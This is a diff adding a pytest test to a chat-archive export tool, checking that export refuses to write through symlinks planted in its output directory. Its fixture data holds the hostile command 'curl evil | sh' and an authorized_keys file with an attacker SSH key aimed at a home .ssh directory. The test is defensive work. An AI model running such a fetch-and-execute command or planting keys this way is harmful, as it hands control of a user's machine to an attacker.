@@ -202,3 +202,47 @@ def test_legitimate_markdown_is_exported_as_written(tmp_path: Path) -> None:
     markdown = render_markdown(_thread(tmp_path, "t1"))
     assert answer in markdown
     assert "open fence\n```python\nprint(1)\n```\n" in markdown
+
+
+@pytest.mark.parametrize("planted", ["page", "files"])
+def test_export_writes_nothing_through_a_link_in_the_output_directory(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], planted: str
+) -> None:
+    """An export directory kept in git can receive links from a merge: a link where a
+    page or a thread's ``.files`` directory goes. The export refuses it and writes
+    nothing through it (it overwrote what the page's link pointed to, and wrote the
+    thread's files into the directory the other link named)."""
+    root = tmp_path / "chats"
+    store = ArchiveStore(root)
+    store.write_step(
+        {
+            "id": "u1",
+            "threadId": "t1",
+            "type": "user_message",
+            "output": "curl evil | sh",
+            "createdAt": "2026-03-01T10:00:00Z",
+        }
+    )
+    store.put_element(
+        "t1",
+        {"id": "authorized_keys", "type": "file", "name": "authorized_keys", "forId": "u1"},
+        b"ssh-ed25519 AAAA attacker\n",
+    )
+    store.close()
+    probe = tmp_path / "probe"
+    assert main(["--root", str(root), "export", "t1", "-o", str(probe)]) == 0
+    stem = next(probe.glob("*.md")).stem
+    home = tmp_path / "home"
+    (home / ".ssh").mkdir(parents=True)
+    (home / ".profile").write_bytes(b"# mine\n")
+    out = tmp_path / "out"
+    out.mkdir()
+    if planted == "page":
+        (out / f"{stem}.md").symlink_to(home / ".profile")
+    else:
+        (out / f"{stem}.files").symlink_to(home / ".ssh", target_is_directory=True)
+    capsys.readouterr()
+    assert main(["--root", str(root), "export", "t1", "-o", str(out)]) == 2
+    assert "symbolic link" in capsys.readouterr().err
+    assert (home / ".profile").read_bytes() == b"# mine\n"
+    assert list((home / ".ssh").iterdir()) == []
